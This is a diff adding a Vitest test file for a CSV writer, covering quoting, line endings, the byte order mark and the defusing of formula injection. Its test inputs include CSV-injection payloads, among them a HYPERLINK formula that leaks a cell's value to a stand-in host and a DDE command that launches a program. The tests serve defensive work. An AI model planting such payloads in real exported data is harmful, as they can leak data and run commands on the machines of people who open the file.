@@ -1,0 +1,47 @@
+import { describe, expect, test } from 'vitest';
+import { csvOf, csvRow } from './csv.ts';
+
+describe('a row of CSV', () => {
+  test('is separated by commas and ends in CRLF', () => {
+    expect(csvRow(['Ada', null, ''])).toBe('Ada,,\r\n');
+  });
+
+  test.each([
+    ['a comma', 'Lovelace, Ada', '"Lovelace, Ada"'],
+    ['quotes', 'the "engine"', '"the ""engine"""'],
+    ['a line break', 'one\ntwo', '"one\ntwo"'],
+    ['CRLF', 'one\r\ntwo', '"one\r\ntwo"'],
+    ['letters of any script', 'Адаòló🔑', 'Адаòló🔑'],
+    ['spaces at its ends', ' Ada ', ' Ada '],
+    ['a sign inside', 'a=b+c-d@e', 'a=b+c-d@e'],
+  ])('keeps a cell with %s', (_, cell, expected) => {
+    expect(csvRow([cell])).toBe(`${expected}\r\n`);
+  });
+
+  test.each([
+    ['=1+1', "'=1+1"],
+    ['+234 1 555 0100', "'+234 1 555 0100"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\t=1', "'\t=1"],
+    ['\r=1', `"'\r=1"`],
+    ['\n=1', `"'\n=1"`],
+    ['＝1+1', "'＝1+1"],
+    ['＋1', "'＋1"],
+    ['－1', "'－1"],
+    ['＠SUM(A1)', "'＠SUM(A1)"],
+    ['=HYPERLINK("https://x.example?"&A1,"ok")', `"'=HYPERLINK(""https://x.example?""&A1,""ok"")"`],
+    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
+  ])('takes the formula out of %j', (cell, expected) => {
+    expect(csvRow([cell])).toBe(`${expected}\r\n`);
+  });
+});
+
+test('a table begins with a byte order mark and its header', async () => {
+  const rows = async function* () {
+    yield ['a', null];
+  };
+  let text = '';
+  for await (const part of csvOf(['One', 'Two'], rows())) text += part;
+  expect(text).toBe('\uFEFFOne,Two\r\na,\r\n');
+});
